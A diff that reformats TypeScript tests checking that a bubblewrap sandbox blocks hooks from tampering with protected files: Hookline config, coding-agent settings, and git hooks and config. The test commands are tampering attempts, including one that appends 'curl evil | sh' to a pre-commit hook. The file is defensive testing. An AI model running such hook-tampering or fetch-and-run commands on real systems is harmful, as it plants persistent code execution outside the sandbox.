@@ -1,7 +1,18 @@
 // Nothing that decides what runs outside the sandbox later is writable from inside: Hookline's config,
 // journal and plugins, coding agents' settings, version control hooks — read-only where they exist,
 // moved aside (and the hook failed) where a hook created them.
-import { chownSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import {
+  chownSync,
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  realpathSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import process from 'node:process';
@@ -45,7 +56,8 @@ async function open(settings: BubblewrapSandboxSettings = {}): Promise<SandboxSe
   return bubblewrapSandbox({ baseDir: work, ...settings }).doOpen('protected', new AbortController().signal);
 }
 
-const quarantined = (folder: string, name: string): string[] => readdirSync(folder).filter((entry) => entry.startsWith(`${name}.hookline-quarantine-`));
+const quarantined = (folder: string, name: string): string[] =>
+  readdirSync(folder).filter((entry) => entry.startsWith(`${name}.hookline-quarantine-`));
 
 describe.skipIf(problem !== undefined)('bubblewrap keeps protected paths out of reach', () => {
   test('an existing hookline.toml cannot be appended to, replaced, renamed or removed', async () => {
@@ -60,9 +72,13 @@ describe.skipIf(problem !== undefined)('bubblewrap keeps protected paths out of 
     ];
     for (const command of tries) {
       const result = await session.exec({ command: `( ${command} ) 2>&1; echo "exit $?"`, cwd: work });
-      expect(text(result.stdout), command).toMatch(/(Read-only file system|Device or resource busy|Permission denied)[\s\S]*exit [1-9]/);
+      expect(text(result.stdout), command).toMatch(
+        /(Read-only file system|Device or resource busy|Permission denied)[\s\S]*exit [1-9]/,
+      );
     }
-    expect(readFileSync(join(work, 'hookline.toml'), 'utf8')).toBe('[[hooks]]\nevent = "stage_start"\ncommand = "true"\n');
+    expect(readFileSync(join(work, 'hookline.toml'), 'utf8')).toBe(
+      '[[hooks]]\nevent = "stage_start"\ncommand = "true"\n',
+    );
     await session.dispose();
   });
 
@@ -74,15 +90,18 @@ describe.skipIf(problem !== undefined)('bubblewrap keeps protected paths out of 
     make('.github/hooks/hooks.json', '{}');
     const session = await open();
     const result = await session.exec({
-      command: [
-        'echo "{\\"hooks\\":1}" > .claude/settings.json',
-        'echo "#!/bin/sh" > .git/hooks/pre-commit',
-        'printf "[core]\\nhooksPath = /tmp\\n" >> .git/config',
-        'mv .git .git-moved',
-        'mv .claude .claude-moved',
-        'touch node_modules/@hookline/cli/index.js',
-        'echo x > .github/hooks/hooks.json',
-      ].map((command) => `{ ${command}; } 2>/dev/null && echo "DONE: ${command.replaceAll('"', '')}"`).join('; ') + '; true',
+      command:
+        [
+          'echo "{\\"hooks\\":1}" > .claude/settings.json',
+          'echo "#!/bin/sh" > .git/hooks/pre-commit',
+          'printf "[core]\\nhooksPath = /tmp\\n" >> .git/config',
+          'mv .git .git-moved',
+          'mv .claude .claude-moved',
+          'touch node_modules/@hookline/cli/index.js',
+          'echo x > .github/hooks/hooks.json',
+        ]
+          .map((command) => `{ ${command}; } 2>/dev/null && echo "DONE: ${command.replaceAll('"', '')}"`)
+          .join('; ') + '; true',
       cwd: work,
     });
     expect(result.exitCode, text(result.stderr)).toBe(0);
@@ -95,9 +114,16 @@ describe.skipIf(problem !== undefined)('bubblewrap keeps protected paths out of 
 
   test('a hook that creates a missing hookline.toml fails naming it; the file is moved aside, not deleted', async () => {
     const session = await open();
-    const exec = session.exec({ command: `printf '[[hooks]]\\nevent = "stage_start"\\nsandbox = false\\ncommand = "id"\\n' > hookline.toml`, cwd: work });
+    const exec = session.exec({
+      command: `printf '[[hooks]]\\nevent = "stage_start"\\nsandbox = false\\ncommand = "id"\\n' > hookline.toml`,
+      cwd: work,
+    });
     await expect(exec).rejects.toThrow(BubblewrapProtectedPathError);
-    await expect(exec).rejects.toThrow(new RegExp(`${join(work, 'hookline.toml')} was created; it was moved aside to ${join(work, 'hookline.toml')}\\.hookline-quarantine-.*inspect it`));
+    await expect(exec).rejects.toThrow(
+      new RegExp(
+        `${join(work, 'hookline.toml')} was created; it was moved aside to ${join(work, 'hookline.toml')}\\.hookline-quarantine-.*inspect it`,
+      ),
+    );
     expect(existsSync(join(work, 'hookline.toml'))).toBe(false);
     const [aside] = quarantined(work, 'hookline.toml');
     expect(readFileSync(join(work, aside!), 'utf8')).toContain('sandbox = false');
@@ -114,7 +140,9 @@ describe.skipIf(problem !== undefined)('bubblewrap keeps protected paths out of 
       ['echo "{}" > .mcp.json', '.mcp.json'],
       ['mkdir -p .hookline && touch .hookline/journal.db', '.hookline'],
     ] as const) {
-      await expect(session.exec({ command, cwd: work }), command).rejects.toThrow(new RegExp(`${join(work, path).replaceAll('.', '\\.')} was created`));
+      await expect(session.exec({ command, cwd: work }), command).rejects.toThrow(
+        new RegExp(`${join(work, path).replaceAll('.', '\\.')} was created`),
+      );
       const parent = join(work, path, '..');
       expect(existsSync(join(work, path))).toBe(false);
       expect(quarantined(parent, path.split('/').at(-1)!)).toHaveLength(1);
@@ -125,7 +153,10 @@ describe.skipIf(problem !== undefined)('bubblewrap keeps protected paths out of 
   test('a hook that changes nothing protected passes, and other files stay writable', async () => {
     make('hookline.toml', '');
     const session = await open();
-    const result = await session.exec({ command: 'echo ok > result.txt && mkdir -p build && touch build/x', cwd: work });
+    const result = await session.exec({
+      command: 'echo ok > result.txt && mkdir -p build && touch build/x',
+      cwd: work,
+    });
     expect(result.exitCode, text(result.stderr)).toBe(0);
     expect(readFileSync(join(work, 'result.txt'), 'utf8')).toBe('ok\n');
     await session.dispose();
@@ -138,7 +169,9 @@ describe.skipIf(problem !== undefined)('bubblewrap keeps protected paths out of 
     const result = await session.exec({ command: 'echo x >> data/journal.db; echo "exit $?"', cwd: work });
     expect(text(result.stdout)).toMatch(/exit [1-9]/);
     expect(readFileSync(join(work, 'data', 'journal.db'), 'utf8')).toBe('journal');
-    await expect(session.exec({ command: 'mkdir -p data/config && echo "[[hooks]]" > data/config/hookline.toml', cwd: work })).rejects.toThrow(/data\/config\/hookline\.toml was created/);
+    await expect(
+      session.exec({ command: 'mkdir -p data/config && echo "[[hooks]]" > data/config/hookline.toml', cwd: work }),
+    ).rejects.toThrow(/data\/config\/hookline\.toml was created/);
     await session.dispose();
   });
 
@@ -146,10 +179,14 @@ describe.skipIf(problem !== undefined)('bubblewrap keeps protected paths out of 
     make('.git/objects');
     make('project');
     const session = await open();
-    await expect(session.exec({ command: 'true', cwd: join(work, '.git') })).rejects.toThrow(/does not bind .*\.git writable: it lies inside .*\.git/);
+    await expect(session.exec({ command: 'true', cwd: join(work, '.git') })).rejects.toThrow(
+      /does not bind .*\.git writable: it lies inside .*\.git/,
+    );
     await session.dispose();
     const withWritable = await open({ writable: ['.git/objects'] });
-    await expect(withWritable.exec({ command: 'true', cwd: work })).rejects.toThrow(/does not bind .*\.git\/objects writable: it lies inside .*\.git/);
+    await expect(withWritable.exec({ command: 'true', cwd: work })).rejects.toThrow(
+      /does not bind .*\.git\/objects writable: it lies inside .*\.git/,
+    );
     await withWritable.dispose();
   });
 
@@ -160,7 +197,9 @@ describe.skipIf(problem !== undefined)('bubblewrap keeps protected paths out of 
     const append = await session.exec({ command: 'echo x >> hookline.toml; echo "exit $?"', cwd: work });
     expect(text(append.stdout)).toMatch(/exit [1-9]/);
     expect(readFileSync(join(work, 'config/real.toml'), 'utf8')).toBe('real');
-    await expect(session.exec({ command: 'rm hookline.toml && echo "[[hooks]]" > hookline.toml', cwd: work })).rejects.toThrow(/hookline\.toml was replaced; it was moved aside/);
+    await expect(
+      session.exec({ command: 'rm hookline.toml && echo "[[hooks]]" > hookline.toml', cwd: work }),
+    ).rejects.toThrow(/hookline\.toml was replaced; it was moved aside/);
     expect(existsSync(join(work, 'hookline.toml'))).toBe(false);
     await session.dispose();
   });
@@ -169,9 +208,14 @@ describe.skipIf(problem !== undefined)('bubblewrap keeps protected paths out of 
     make('other/.git');
     make('cwd');
     const session = await open({ writable: ['other'] });
-    const result = await session.exec({ command: `touch ${join(work, 'other', '.git', 'config')}; echo "exit $?"`, cwd: join(work, 'cwd') });
+    const result = await session.exec({
+      command: `touch ${join(work, 'other', '.git', 'config')}; echo "exit $?"`,
+      cwd: join(work, 'cwd'),
+    });
     expect(text(result.stdout)).toMatch(/exit [1-9]/);
-    await expect(session.exec({ command: `echo x > ${join(work, 'other', 'hookline.toml')}`, cwd: join(work, 'cwd') })).rejects.toThrow(/other\/hookline\.toml was created/);
+    await expect(
+      session.exec({ command: `echo x > ${join(work, 'other', 'hookline.toml')}`, cwd: join(work, 'cwd') }),
+    ).rejects.toThrow(/other\/hookline\.toml was created/);
     await session.dispose();
   });
 
@@ -179,13 +223,17 @@ describe.skipIf(problem !== undefined)('bubblewrap keeps protected paths out of 
     make('.git/config', '[core]\n\tbare = false\n\thooksPath = scripts/hooks\n');
     make('scripts/hooks/pre-commit', '#!/bin/sh\nexit 0\n');
     const session = await open();
-    const result = await session.exec({ command: 'echo "curl evil | sh" >> scripts/hooks/pre-commit; echo "exit $?"; echo ok > scripts/other.txt', cwd: work });
+    const result = await session.exec({
+      command: 'echo "curl evil | sh" >> scripts/hooks/pre-commit; echo "exit $?"; echo ok > scripts/other.txt',
+      cwd: work,
+    });
     expect(text(result.stdout)).toMatch(/exit [1-9]/);
     expect(readFileSync(join(work, 'scripts/hooks/pre-commit'), 'utf8')).toBe('#!/bin/sh\nexit 0\n');
     expect(readFileSync(join(work, 'scripts/other.txt'), 'utf8')).toBe('ok\n');
     rmSync(join(work, 'scripts/hooks'), { recursive: true });
-    await expect(session.exec({ command: 'mkdir -p scripts/hooks && echo x > scripts/hooks/pre-push', cwd: work })).rejects.toThrow(/scripts\/hooks was created/);
+    await expect(
+      session.exec({ command: 'mkdir -p scripts/hooks && echo x > scripts/hooks/pre-push', cwd: work }),
+    ).rejects.toThrow(/scripts\/hooks was created/);
     await session.dispose();
   });
 });
-
